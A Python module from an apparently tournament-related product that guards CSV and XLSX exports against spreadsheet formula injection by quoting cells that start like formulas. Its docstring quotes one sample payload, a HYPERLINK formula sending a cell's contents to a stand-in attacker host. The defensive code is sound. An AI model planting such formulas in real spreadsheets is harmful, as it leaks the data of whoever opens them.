"""Every CSV and XLSX the product writes goes through here, so that no text a person typed
(a player's name, an event's or a category's name) reaches a spreadsheet as a formula.

Pure: no Django (``standings.fastpath`` writes its CSV with it without starting Django).

A spreadsheet program reads a CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return before one) as a formula: a player registered as
``=HYPERLINK("http://evil.example/?d="&A1,"Claim prize")`` would put a live link in the
organiser's prize sheet. Such cells get a leading apostrophe, which spreadsheets take as "this
is text" (OWASP, "CSV Injection"). The exact numbers we write ourselves (``-0.25``,
``-25/3``) are left alone: a plain number carries no formula, and scripts read them as
numbers.

In XLSX every text cell is stored as text, never as a formula, and a text cell that starts
like a formula is marked with the "quote prefix" style, so that the spreadsheet keeps it as
text when someone edits the cell; it shows the name exactly as typed. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The exact numbers of points, tie-breaks and money ("-0.25", "-25/3"), and a tie-break's
# list of them ("-1 2"): digits, a point or a slash, spaces between numbers.
_NUMBER = r"-?[0-9]+(\.[0-9]+)?(/[0-9]+)?"
_PLAIN_NUMBERS = re.compile(f"{_NUMBER}( {_NUMBER})*")


def starts_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and _PLAIN_NUMBERS.fullmatch(text) is None


def cell_text(text: str) -> str:
    """``text`` as a CSV cell: prefixed with ``'`` when a spreadsheet would run it."""
    return "'" + text if starts_like_formula(text) else text


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """The rows as CSV (``\\n`` line ends); every text cell through :func:`cell_text`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for row in rows:
        writer.writerow([cell_text(value) if isinstance(value, str) else value for value in row])
    return out.getvalue()


def xlsx_append(sheet: Any, values: Sequence[Any]) -> None:
    """``sheet.append(values)`` (an openpyxl worksheet) with every text cell stored as text.

    openpyxl turns a string that starts with ``=`` into a formula cell; here it stays a
    string, and one that starts like a formula gets the quote prefix."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if starts_like_formula(cell.value):
                cell.quotePrefix = True
